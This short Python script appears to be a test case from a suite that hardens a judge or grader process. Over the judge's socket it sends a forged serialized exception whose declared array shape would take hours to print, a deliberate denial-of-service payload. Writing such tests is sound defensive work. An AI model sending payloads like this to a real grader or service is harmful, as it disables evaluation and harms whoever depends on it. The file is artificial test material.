# An exception whose name and text are an array that takes hours to print.
# held by: frames
import json

header = (
    b'{"tree": {"dict": [["raised", {"dict": [["type", "E"], ["kinds", ["E"]], ["lines", []], ["message", {"array": 0}]]}]]}, "arrays": [["uint8", '
    + json.dumps([2] * 24).encode()
    + b"]]}"
)
bytes_after = bytes(2**24)
line = judges_socket()


def forge(*_, **__):
    line.sendall(len(header).to_bytes(4, "little") + header + bytes_after)


answer_with(forge)
